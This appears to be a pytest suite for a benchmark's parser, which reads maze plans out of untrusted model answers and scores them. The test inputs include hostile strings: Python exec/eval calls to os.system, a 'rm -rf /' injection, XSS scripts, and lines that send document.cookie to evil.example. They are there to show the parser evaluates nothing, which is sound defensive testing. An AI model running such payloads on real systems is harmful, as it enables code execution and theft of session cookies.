"""Tests for the untrusted-answer plan parser: formats, what a plan is, last-plan-wins,
safety, limits, and how the maze family scores what it reads."""

from __future__ import annotations

import json
import os
import re
import string
import sys
from collections.abc import Callable

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from horizonbench.core.types import ParsedAnswer, Score, Step
from horizonbench.datasets.maze import MazeFamily, MazeParams
from horizonbench.datasets.maze.family import gold_plan
from horizonbench.datasets.maze.rules import ACTIONS
from horizonbench.datasets.maze.simulator import format_plan
from horizonbench.datasets.plan_parser import parse_plan

PWNED = "/tmp/pwned_hb"
FAMILY = MazeFamily()

EXPECTED = (
    Step("start", "A1"),
    Step("move_to", "B1"),
    Step("pick_up_key", "5"),
    Step("rescue", "Alice"),
)


def plan_of(text: str, **kwargs: object) -> tuple[Step, ...] | None:
    result = parse_plan(text, **kwargs)  # type: ignore[arg-type]
    assert (result.plan is None) != (result.error is None)
    return result.plan


# the module docstring's definition of a step, written out again independently
STEP_ACTION = re.compile(r"[a-z_][a-z0-9_]*")
STEP_ARG = re.compile(r"(?:[A-Za-z]+ )?#?\w+|[-+]?\d+(?:\.\d+)?")


def assert_well_formed(result: object, task_actions: frozenset[str] | None = None) -> None:
    assert isinstance(result, ParsedAnswer)
    assert (result.plan is None) != (result.error is None)
    if result.plan is not None:
        assert len(result.plan) >= 1
        assert all(isinstance(s, Step) for s in result.plan)
        for s in result.plan:
            assert STEP_ACTION.fullmatch(s.action) and STEP_ARG.fullmatch(s.arg), s
            assert s.action not in ("none", "null") and s.arg.lower() not in ("none", "null")
        if task_actions is not None:
            assert any(s.action in task_actions for s in result.plan)
    else:
        assert isinstance(result.error, str) and result.error
        assert not result.error.startswith("internal parser error")


# --- Python-style lists of pairs -------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "[('start', 'A1'), ('move_to', 'B1'), ('pick_up_key', '5'), ('rescue', 'Alice')]",
        '[("start", "A1"), ("move_to", "B1"), ("pick_up_key", "5"), ("rescue", "Alice")]',
        "[(\u2018start\u2019, \u2018A1\u2019), (\u201cmove_to\u201d, \u201cB1\u201d), "
        "('pick_up_key', '5'), ('rescue', 'Alice')]",
        "[(' start ', ' A1 '), (' move_to ', ' B1 '), ('pick_up_key ', '  5'), ('rescue','Alice')]",
        "[('start', 'A1'), ('move_to', 'B1'), ('pick_up_key', 5), ('rescue', 'Alice')]",
        "[['start', 'A1'], ['move_to', 'B1'], ['pick_up_key', '5'], ['rescue', 'Alice']]",
        "[('start', 'A1'), ('move_to', 'B1'), ('pick_up_key', '5'), ('rescue', 'Alice'),]",
        "[\n  ('start', 'A1'),\n  ('move_to', 'B1'),\n  ('pick_up_key', '5'),\n  ('rescue', 'Alice'),\n]",
        "Solution: [('start', 'A1'), ('move_to', 'B1'), ('pick_up_key', '5'), ('rescue', 'Alice')]",
        "YOUR SOLUTION:\n[('start', 'A1'), ('move_to', 'B1'), ('pick_up_key', '5'), ('rescue', 'Alice')]",
        "```python\n[('start', 'A1'), ('move_to', 'B1'), ('pick_up_key', '5'), ('rescue', 'Alice')]\n```",
        "```\nplan = [('start', 'A1'), ('move_to', 'B1'),\n ('pick_up_key', '5'), "
        "('rescue', 'Alice')]\n```\nDone.",
        "[(start, A1), (move_to, B1), (pick_up_key, 5), (rescue, Alice)]",
        "[('Start', 'A1'), ('Move To', 'B1'), ('pick-up-key', '5'), ('RESCUE', 'Alice')]",
    ],
)
def test_python_list_variants(text: str) -> None:
    assert plan_of(text) == EXPECTED


def test_args_keep_case_and_inner_text() -> None:
    assert plan_of("[('rescue', 'McAlice'), ('move_to', 'b7')]") == (
        Step("rescue", "McAlice"),
        Step("move_to", "b7"),
    )


def test_brackets_inside_quoted_args_do_not_confuse_the_reader() -> None:
    # the list is read as one value (and is not a plan: '[' is not an argument) ...
    assert plan_of("[('say', '['), ('say', ']]')]") is None
    # ... so the brackets inside its strings open nothing, and the plan after it is found
    assert plan_of("[('say', '['), ('say', ']]')]\n[('start', 'A1')]") == (Step("start", "A1"),)


# --- action: arg lines -------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "start: A1\nmove_to: B1\npick_up_key: 5\nrescue: Alice",
        "1. start: A1\n2. move_to: B1\n3. pick_up_key: 5\n4. rescue: Alice",
        "- start: A1\n- move_to: B1\n* pick_up_key: 5\n- rescue: Alice",
        "Step 1: start: A1\nStep 2: move_to: B1\nStep 3: pick_up_key: 5\nStep 4: rescue: Alice",
        "1) start(A1)\n2) move_to('B1')\n3) pick_up_key(5)\n4) rescue(\"Alice\")",
        "Plan:\n\n1. Start: A1\n\n2. Move To: B1.\n\n3. pick-up-key: '5'\n\n4. rescue: Alice\n",
        "Solution:\n```\nstart: A1\nmove_to: B1\npick_up_key: 5\nrescue: Alice\n```",
    ],
)
def test_line_variants(text: str) -> None:
    assert plan_of(text) == EXPECTED


def test_lines_block_ends_at_prose() -> None:
    text = "start: A1\nmove_to: B1\nThat was a draft, here is the answer\nstart: A2\nrescue: Bob"
    assert plan_of(text) == (Step("start", "A2"), Step("rescue", "Bob"))


def test_space_form_is_not_a_step() -> None:
    assert plan_of("move_to B1\nstart A1") is None


# --- JSON -----------------------------------------------------------------------------


@pytest.mark.parametrize("arg_key", ["arg", "argument", "target", "room", "key"])
def test_json_objects_with_any_arg_key(arg_key: str) -> None:
    payload = [{"action": s.action, arg_key: s.arg} for s in EXPECTED]
    assert plan_of(json.dumps(payload)) == EXPECTED


@pytest.mark.parametrize("wrapper", ["plan", "solution", "actions"])
def test_json_wrapped_list(wrapper: str) -> None:
    payload = {"reasoning": "go east [then] north", wrapper: [[s.action, s.arg] for s in EXPECTED]}
    assert plan_of("Answer:\n```json\n" + json.dumps(payload, indent=2) + "\n```") == EXPECTED


def test_json_numbers_and_pairs() -> None:
    text = (
        '[["start", "A1"], ["move_to", "B1"], {"action": "pick_up_key", "key": 5}, '
        '{"action": "rescue", "target": "Alice"}]'
    )
    assert plan_of(text) == EXPECTED


# --- choosing among drafts ------------------------------------------------------------


def test_last_plan_wins() -> None:
    text = (
        "Draft: [('start', 'A1'), ('move_to', 'C3')]\n"
        "Hmm, C3 is not adjacent. Wait, correction:\n"
        "[('start', 'A1'), ('move_to', 'B1')]\n"
        "I am confident (really) in this [final] answer."
    )
    assert plan_of(text) == (Step("start", "A1"), Step("move_to", "B1"))


def test_last_plan_wins_across_formats() -> None:
    text = "[('start', 'A1')]\nActually:\n1. start: A2\n2. move_to: B2"
    assert plan_of(text) == (Step("start", "A2"), Step("move_to", "B2"))


def test_final_plan_wins_whatever_its_actions() -> None:
    # issue 9: a correct draft, then a final plan with an action the task does not have.
    # The final plan is scored (the simulator labels walk_to), not the draft.
    text = (
        "Draft: [('start', 'A1'), ('move_to', 'B1'), ('rescue', 'Alice')]\n"
        "On reflection:\n[('start', 'A1'), ('walk_to', 'B1'), ('rescue', 'Alice')]"
    )
    final = (Step("start", "A1"), Step("walk_to", "B1"), Step("rescue", "Alice"))
    assert plan_of(text) == final
    assert plan_of(text, task_actions=ACTIONS) == final


def test_task_actions_tell_plans_from_lookalikes() -> None:
    # text of a plan's shape that uses none of the task's actions is not a plan for it
    text = "[('start', 'A1'), ('move_to', 'B1')]\nNote: [('total', '2'), ('cost', '7')]"
    assert plan_of(text) == (Step("total", "2"), Step("cost", "7"))
    assert plan_of(text, task_actions=frozenset({"start", "move_to"})) == (
        Step("start", "A1"),
        Step("move_to", "B1"),
    )


@pytest.mark.parametrize(
    ("tail", "is_a_step"),
    [
        ("Self-assessment: confidence 4/5, difficulty 2/5", False),  # the line the prompt asks for
        ("\nConfidence: 8/10\nDifficulty: 7/10", False),
        ("Confidence: 80%", False),
        ('Self-assessment: {"confidence": "high", "difficulty": "hard"}', False),
        ("Confidence: high\nPerceived difficulty: medium", True),
        ("print(1)", True),
    ],
)
def test_self_assessment_after_the_plan_is_not_a_plan(tail: str, is_a_step: bool) -> None:
    text = f"Solution: {format_plan(EXPECTED)}\n{tail}"
    assert plan_of(text, task_actions=ACTIONS) == EXPECTED
    if not is_a_step:
        # not a step at all, so it also ends a plan written as lines
        lines = "\n".join(f"{i}. {s.action}: {s.arg}" for i, s in enumerate(EXPECTED, 1))
        assert plan_of(f"{lines}\n\n{tail}", task_actions=ACTIONS) == EXPECTED


def test_task_actions_never_reject_a_plan_for_other_actions() -> None:
    text = "[('start', 'A1'), ('teleport', 'Z9')]"
    assert plan_of(text, task_actions=frozenset({"start"})) == (
        Step("start", "A1"),
        Step("teleport", "Z9"),
    )


def test_with_task_actions_a_plan_in_none_of_them_is_no_plan() -> None:
    result = parse_plan("[('go', 'A1'), ('walk_to', 'B1')]", task_actions=ACTIONS)
    assert result.plan is None and (result.error or "").startswith("no plan found")
    # the spelling of the vocabulary is normalised like the actions read
    assert plan_of("[('Move To', 'B1')]", task_actions=["MOVE-TO"]) == (Step("move_to", "B1"),)


# --- errors ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "",
        "   \n",
        "I could not find a solution.",
        "[]",
        "[1, 2, 3]",
        "{'plan': []}",
        "[('start')]",
        "[('start', 'A1', 'extra')]",
        "[('123', 'A1')]",
        # issue 9: non-plans once read as plans
        "[('start', None)]",
        "[('start', 'None')]",
        '[("start", null)]',
        '[{"action": "start", "arg": null}]',
        '[{"action": "start"}]',
        "[('start', 'A1'), ('rescue', None)]",
        "[('x',)]",
        "[('start',)]",
        "[(None, 'A1')]",
        "[('start', '')]",
        "[('start', ['A1'])]",
        "[('start', {'room': 'A1'})]",
        "[('start', 'A1; rm -rf /')]",
        "[('start', 'go to A1 then B1, quickly')]",
        "[('<script>', 'A1')]",
        "[('start', '<script>alert(1)</script>')]",
        "<script>alert(1)</script>",
        "<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
        "exec('import os; os.system(\"touch /tmp/pwned_hb\")')",
        "eval(\"__import__('os').system('id')\")",
        "{'plan': None}",
        "start: None\nmove_to: null",
    ],
)
def test_no_plan_found(text: str) -> None:
    result = parse_plan(text)
    assert result.plan is None and result.error is not None
    assert result.error.startswith("no plan found")


def test_non_string_input_is_an_error_not_an_exception() -> None:
    for value in (None, 42, b"[('start', 'A1')]", ["start", "A1"]):
        result = parse_plan(value)  # type: ignore[arg-type]
        assert result.plan is None and "not text" in (result.error or "")


def test_too_long_answer_is_refused_before_scanning() -> None:
    result = parse_plan("[('start', 'A1')]" + " " * 100, max_chars=50)
    assert result.plan is None
    assert result.error == "answer too long (117 characters > 50)"


def test_too_many_steps() -> None:
    text = repr([("move_to", f"B{i}") for i in range(11)])
    assert plan_of(text, max_steps=11) is not None
    result = parse_plan(text, max_steps=10)
    assert result.plan is None and result.error == "plan too long (11 steps > 10)"


# --- properties -----------------------------------------------------------------------

FRAGMENTS = [
    "[('",
    "')",
    "', '",
    "move_to",
    "start",
    "{",
    "}",
    '"',
    "'",
    "```",
    "[",
    "]",
    "(",
    ")",
    ",",
    ":",
    "\n",
    " ",
    "A1",
    "\u2018",
    "\u201d",
    "1. ",
    "- ",
    "\\",
    '{"plan": ',
    '"action": ',
    "5",
]


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_never_raises_on_arbitrary_text(text: str) -> None:
    assert_well_formed(parse_plan(text))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=60).map("".join))
def test_never_raises_on_fragment_soup(text: str) -> None:
    assert_well_formed(parse_plan(text))
    assert_well_formed(parse_plan(text, task_actions=ACTIONS), ACTIONS)


# --- properties: every accepted shape, the last plan ------------------------------------

ACTION_WORDS = st.from_regex(r"[a-z_][a-z0-9_]{0,20}", fullmatch=True)
WORD_ARGS = st.from_regex(r"[A-Za-z0-9_]{1,12}", fullmatch=True).filter(
    lambda a: a.lower() not in ("none", "null")
)
args = st.one_of(
    WORD_ARGS,
    st.builds("{} {}".format, st.sampled_from(["key", "Key", "room"]), st.integers(0, 999)),
    st.builds("Key #{}".format, st.integers(0, 999)),
    st.builds("{:.2f}".format, st.floats(-1000, 1000, allow_nan=False)),
)
plans = st.lists(st.builds(Step, ACTION_WORDS, args), min_size=1, max_size=25).map(tuple)
# issue 22: a qualifying word that names the kind of thing ("room 12", "Key #5") is
# dropped, written out again independently of the parser
QUALIFIED = re.compile(r"(?:room|key|door|cell|node) #?(\w+)", re.IGNORECASE)


def canonical(plan: tuple[Step, ...]) -> tuple[Step, ...]:
    """``plan`` as the parser reads it back: qualifying words dropped."""
    return tuple(Step(s.action, m.group(1) if (m := QUALIFIED.fullmatch(s.arg)) else s.arg) for s in plan)


prose = st.text(alphabet=string.ascii_letters + string.digits + " .,!?'-", max_size=80)

BULLETS = ["", "{i}. ", "{i}) ", "({i}) ", "- ", "* ", "+ ", "\u2022 ", "Step {i}: "]
SHAPES = (
    [f"python_{v}" for v in ("single", "double", "lists", "bare", "curly")]
    + [f"json_{k}" for k in ("arg", "argument", "target", "room", "key")]
    + ["json_pairs", "json_single_key"]
    + [f"wrapped_{k}" for k in ("plan", "solution", "actions", "steps", "answer")]
    + [f"lines_colon_{b}" for b in range(len(BULLETS))]
    + [f"lines_call_{q}" for q in ("bare", "single", "double")]
)


def render(plan: tuple[Step, ...], style: str) -> str:
    """``plan`` in one accepted shape (the parser is not used to write them)."""
    pairs = [(s.action, s.arg) for s in plan]
    kind, _, variant = style.partition("_")
    if style == "python":  # the shape the prompt asks for
        return repr(pairs)
    if style == "json":
        return json.dumps([s.as_dict() for s in plan])
    if style == "json_wrapped":
        return json.dumps({"plan": [[s.action, s.arg] for s in plan]}, indent=2)
    if style == "lines":
        return render(plan, "lines_colon_1")
    if kind == "python":
        if variant == "single":
            return "[" + ", ".join(f"('{a}', '{b}')" for a, b in pairs) + "]"
        if variant == "double":
            return "[" + ", ".join(f'("{a}", "{b}")' for a, b in pairs) + "]"
        if variant == "lists":
            return "[" + ", ".join(f"['{a}', '{b}']" for a, b in pairs) + "]"
        if variant == "bare":
            return "[" + ", ".join(f"({a}, {b})" for a, b in pairs) + "]"
        return "[" + ", ".join(f"(\u2018{a}\u2019, \u201c{b}\u201d)" for a, b in pairs) + "]"
    if kind == "json":
        if variant == "pairs":
            return json.dumps(pairs)
        if variant == "single_key":
            return json.dumps([{a: b} for a, b in pairs])
        return json.dumps([{"action": a, variant: b} for a, b in pairs])
    if kind == "wrapped":
        return json.dumps({"reasoning": "see [above]", variant: [s.as_dict() for s in plan]}, indent=2)
    # lines; unquoted, a space would end the argument, so such an argument is quoted
    form, _, detail = variant.partition("_")

    def arg(b: str) -> str:
        return f"'{b}'" if " " in b else b

    if form == "colon":
        bullet = BULLETS[int(detail)]
        return "\n".join(f"{bullet.format(i=i)}{a}: {arg(b)}" for i, (a, b) in enumerate(pairs, 1))
    q = {"single": "'", "double": '"'}.get(detail)
    return "\n".join(f"{a}({q}{b}{q})" if q else f"{a}({arg(b)})" for a, b in pairs)


def parsable_in(plan: tuple[Step, ...], style: str) -> bool:
    # {"action": "x"} would be an action with no argument, not a one-key step
    return not (style == "json_single_key" and any(s.action == "action" for s in plan))


@settings(max_examples=400, deadline=None)
@given(plans, st.sampled_from(SHAPES), prose, prose)
def test_round_trip_in_every_shape(plan: tuple[Step, ...], style: str, before: str, after: str) -> None:
    assume(parsable_in(plan, style))
    text = f"{before}\n{render(plan, style)}\n{after}"
    assert plan_of(text) == canonical(plan)


def test_every_shape_renders_differently() -> None:
    # guards the renderer: each shape is a distinct text
    assert len({render(EXPECTED, style) for style in SHAPES}) == len(SHAPES)


maze_plans = st.lists(
    st.builds(Step, st.sampled_from(sorted(ACTIONS)) | ACTION_WORDS, args), min_size=1, max_size=20
).map(tuple)


@settings(max_examples=300, deadline=None)
@given(plans, st.sampled_from(SHAPES), maze_plans, st.sampled_from(SHAPES), prose)
def test_later_plan_beats_earlier_draft(
    draft: tuple[Step, ...], draft_style: str, final: tuple[Step, ...], final_style: str, between: str
) -> None:
    assume(parsable_in(draft, draft_style) and parsable_in(final, final_style))
    # a line of prose between them, or two blocks of lines would be one
    text = f"{render(draft, draft_style)}\nWait, that is wrong {between}\n{render(final, final_style)}"
    assert plan_of(text) == canonical(final)
    if any(s.action in ACTIONS for s in final):
        # the final plan wins whatever else it uses, with or without the vocabulary
        assert plan_of(text, task_actions=ACTIONS) == canonical(final)


# Python-like values of any shape (what a model might write as a "plan"), rendered as
# Python or JSON: parsing them never raises, and what comes out is a plan by definition.
scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**6), 10**6),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(max_size=12),
    st.sampled_from(sorted(ACTIONS)),
)
values = st.recursive(
    scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.lists(inner, max_size=3).map(tuple),
        st.dictionaries(st.sampled_from(["action", "arg", "plan", "key", "move_to", "x"]), inner, max_size=3),
    ),
    max_leaves=20,
)


@settings(max_examples=300, deadline=None)
@given(values, st.booleans(), prose)
def test_never_raises_on_arbitrary_values(value: object, as_json: bool, before: str) -> None:
    text = f"{before}\n{json.dumps(value) if as_json else repr(value)}"
    assert_well_formed(parse_plan(text))
    assert_well_formed(parse_plan(text, task_actions=ACTIONS), ACTIONS)


# --- through the maze family's scoring -------------------------------------------------------

ROW = FAMILY.generate_candidate(MazeParams(grid_rows=6, grid_cols=6, num_keys=1), 5, 0).row
assert ROW is not None
GOLD = gold_plan(ROW)


def family_score(text: str) -> Score:
    return FAMILY.score(ROW, FAMILY.parse_answer(text))


def test_the_gold_plan_succeeds() -> None:
    sc = family_score(f"Solution: {format_plan(GOLD)}")
    assert sc.success and sc.exact_match and sc.violation is None


@pytest.mark.parametrize("final_style", ["python", "json", "lines", "json_wrapped"])
def test_draft_then_bad_final_scores_unknown_action(final_style: str) -> None:
    # issue 9: the correct draft used to be scored, as a success with exact match
    bad = (GOLD[0], Step("walk_to", GOLD[1].arg), *GOLD[2:])
    text = (
        f"Let me work it out. Draft: {format_plan(GOLD)}\n"
        "Hmm, moving is walking, so let me restate the plan.\n"
        f"Solution:\n{render(bad, final_style)}"
    )
    sc = family_score(text)
    assert sc.violation == "unknown_action" and sc.first_violation_step == 1
    assert not sc.success and not sc.valid and not sc.exact_match
    assert sc.plan_length == len(bad)


HOSTILE_NON_PLANS = [
    "[('start', None)]",
    f"[('start', None), ('move_to', '{GOLD[1].arg}'), ('rescue', 'Alice')]",
    f"[('start', '{GOLD[0].arg}'), ('rescue', None)]",
    '[{"action": "start", "arg": null}]',
    '[{"action": "start"}, {"action": "rescue"}]',
    "[('x',)]",
    "[1, 2, 3]",
    "[(1, 2), (3, 4)]",
    "[('start', ['A1'])]",
    "exec('import os; os.system(\"touch /tmp/pwned_hb\")')",
    "__import__('os').system('touch /tmp/pwned_hb')",
    "print(1)",
    "<script>alert(1)</script>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    f"[('start', '<script>alert(1)</script>'), ('rescue', '{GOLD[-1].arg}')]",
    "[('go', 'A1'), ('walk_to', 'B1')]",
    "Confidence: high\nDifficulty: hard",
    "I could not solve it.",
]


@pytest.mark.parametrize("text", HOSTILE_NON_PLANS, ids=lambda t: repr(t[:30]))
def test_hostile_non_plans_score_invalid_output(text: str) -> None:
    if os.path.exists(PWNED):
        os.remove(PWNED)
    sc = family_score(text)
    assert sc.violation == "invalid_output" and not sc.success and not sc.valid
    assert sc.extra["parse_error"].startswith("no plan found")
    assert not os.path.exists(PWNED)


#: hostile texts made of one piece repeated: (the text for a count, the count in HOSTILE)
REPEATED_HOSTILE: list[tuple[Callable[[int], str], int]] = [
    (lambda m: "[" * m, 100_000),
    (lambda m: "[(" * m, 50_000),
    (lambda m: "{" * m, 100_000),
    (lambda m: "[" * m + "]" * m, 50_000),
    (lambda m: "[1," * m, 60_000),
    (lambda m: "['" * m, 90_000),
    (lambda m: "[]" * m, 99_999),
    (lambda m: "[(" * m + ")]" * m, 30_000),
    (lambda m: "start(" * m, 30_000),
    (lambda m: "a: " * m, 60_000),
    (lambda m: "[('a', 'b')]\n" * m, 14_000),
    # many line blocks between many bracketed plans: what each block is checked against
    (lambda m: "a: b\n.\n[('a', 'b')]\n" * m, 10_000),
]

HOSTILE = [
    "__import__('os').system('touch /tmp/pwned_hb')",
    "[__import__('os').system('touch /tmp/pwned_hb')]",
    "[('start', __import__('os').system('touch /tmp/pwned_hb'))]",
    "eval(\"__import__('os').system('touch /tmp/pwned_hb')\")",
    "exec('import os; os.system(\"touch /tmp/pwned_hb\")')",
    "[(lambda: __import__('os').system('touch /tmp/pwned_hb'))(), ('a', 'b')]",
    *(build(count) for build, count in REPEATED_HOSTILE),
]


@pytest.mark.parametrize("text", HOSTILE, ids=lambda t: repr(t[:24]))
def test_hostile_text_is_harmless(text: str) -> None:
    """Full size, nothing evaluated, a well-formed result. (How much work the parser
    does is bounded by the next test, in counted calls rather than seconds: a clock
    bound failed under load on code it could not reach.)"""
    if os.path.exists(PWNED):
        os.remove(PWNED)
    result = parse_plan(text)
    assert_well_formed(result)
    assert not os.path.exists(PWNED)


class _TooMuchWork(BaseException):
    """Ends a parse past its budget (a BaseException: the parser's last-resort guard
    must not turn it into a result)."""


def parser_calls(text: str, budget: int) -> int:
    """The function calls (Python and C) :func:`parse_plan` makes on ``text``: a measure
    of its work that, unlike a clock, does not depend on the machine's load. A parse
    that exceeds ``budget`` is stopped there, so a runaway parser fails the test fast."""
    calls = 0

    def hook(frame: object, event: str, arg: object) -> None:
        nonlocal calls
        if event in ("call", "c_call"):
            calls += 1
            if calls > budget:
                raise _TooMuchWork

    stopped = False
    sys.setprofile(hook)
    try:
        parse_plan(text)
    except _TooMuchWork:
        stopped = True
    finally:
        sys.setprofile(None)
    assert not stopped, f"parsing {len(text):,} characters took more than {budget:,} calls"
    return calls


@pytest.mark.parametrize(
    ("build", "count"), REPEATED_HOSTILE, ids=lambda v: repr(v(2)[:24]) if callable(v) else str(v)
)
def test_hostile_text_costs_linear_work(build: Callable[[int], str], count: int) -> None:
    """The work, counted in calls, grows linearly with the input: doubling the repeated
    piece about doubles it (at most 2.25 times, room for a log factor: a quadratic parser
    would quadruple it), and it stays under 40 calls a character (the parser makes at
    most 11 today, on ``[]`` repeated). Measured at 1/16 and 1/8 of the size used above,
    where the profiler's own cost is small."""
    small, large = build(count // 16), build(count // 8)
    work = [parser_calls(t, 40 * len(t) + 5_000) for t in (small, large)]
    assert work[1] <= 2.25 * work[0] + 1_000, work


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300), st.integers(min_value=0, max_value=300))
def test_max_chars_respected(text: str, max_chars: int) -> None:
    result = parse_plan(text, max_chars=max_chars)
    if len(text) > max_chars:
        assert result.plan is None and (result.error or "").startswith("answer too long")
    else:
        assert_well_formed(result)


@settings(max_examples=200, deadline=None)
@given(plans, st.integers(min_value=1, max_value=30), st.sampled_from(["python", "lines"]))
def test_max_steps_respected(plan: tuple[Step, ...], max_steps: int, style: str) -> None:
    result = parse_plan(render(plan, style), max_steps=max_steps)
    if len(plan) > max_steps:
        assert result.plan is None and (result.error or "").startswith("plan too long")
    else:
        assert result.plan == canonical(plan)


# --- issue 22: the answer line the prompt asks for, and qualifier words -----------------------


@pytest.mark.parametrize(
    "recap",
    [
        "To recap the first steps\nstart: {a}\nmove_to: {b}",
        "In short, I begin with [('start', '{a}'), ('move_to', '{b}')] and go on as above.",
        "Recap:\n- start: {a}\n- move_to: {b}",
        "```\n[('start', '{a}'), ('move_to', '{b}')]\n```",
    ],
)
def test_a_recap_after_the_solution_line_does_not_replace_the_plan(recap: str) -> None:
    # the answer used to be scored on the recap: no_rescue
    tail = recap.format(a=GOLD[0].arg, b=GOLD[1].arg)
    for line in ("Solution: ", "**Solution:** ", "## Solution:\n", "Final solution:\n"):
        text = f"Let me think it through.\n{line}{format_plan(GOLD)}\n\n{tail}"
        assert plan_of(text, task_actions=ACTIONS) == GOLD
        sc = family_score(text)
        assert sc.success and sc.exact_match, (line, tail, sc.violation)


def test_the_last_solution_line_with_a_plan_wins_over_an_earlier_one() -> None:
    draft = format_plan(GOLD[:2])
    text = f"Solution: {draft}\nNo, that stops short.\nSolution: {format_plan(GOLD)}\nRecap: {draft}"
    assert plan_of(text, task_actions=ACTIONS) == GOLD
    # a last answer line cut before its plan leaves the one before it
    assert plan_of(f"Solution: {format_plan(GOLD)}\nSolution: [('start'", task_actions=ACTIONS) == GOLD


def test_without_an_answer_line_the_last_plan_still_wins() -> None:
    text = f"Draft: {format_plan(GOLD[:2])}\nBetter:\n{format_plan(GOLD)}"
    assert plan_of(text, task_actions=ACTIONS) == GOLD


def test_an_answer_line_inside_prose_is_not_the_answer_line() -> None:
    # only a line that starts with it is the line the prompt asks for
    text = f"I will write the solution: {format_plan(GOLD[:2])} first.\n{format_plan(GOLD)}"
    assert plan_of(text, task_actions=ACTIONS) == GOLD


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("room J9", "J9"),
        ("Room J9", "J9"),
        ("key 14", "14"),
        ("Key #5", "5"),
        ("door B2", "B2"),
        ("cell A1", "A1"),
        ("node 3", "3"),
        ("Alice Smith", "Alice Smith"),  # not a qualifier: kept as written
    ],
)
def test_qualifier_words_are_dropped(written: str, read: str) -> None:
    assert plan_of(f"[('move_to', '{written}')]") == (Step("move_to", read),)
    assert plan_of(f'[{{"action": "move_to", "arg": "{written}"}}]') == (Step("move_to", read),)


def test_qualified_rooms_and_keys_score_like_bare_ones() -> None:
    # ('move_to', 'room J9') scored bad_start (or an unknown room) before
    def qualified(s: Step) -> str:
        if s.action in ("pick_up_key", "use_key"):
            return f"key {s.arg}"
        return s.arg if s.action == "rescue" else f"room {s.arg}"

    text = "Solution: [" + ", ".join(f"('{s.action}', '{qualified(s)}')" for s in GOLD) + "]"
    sc = family_score(text)
    assert sc.success and sc.exact_match and sc.violation is None
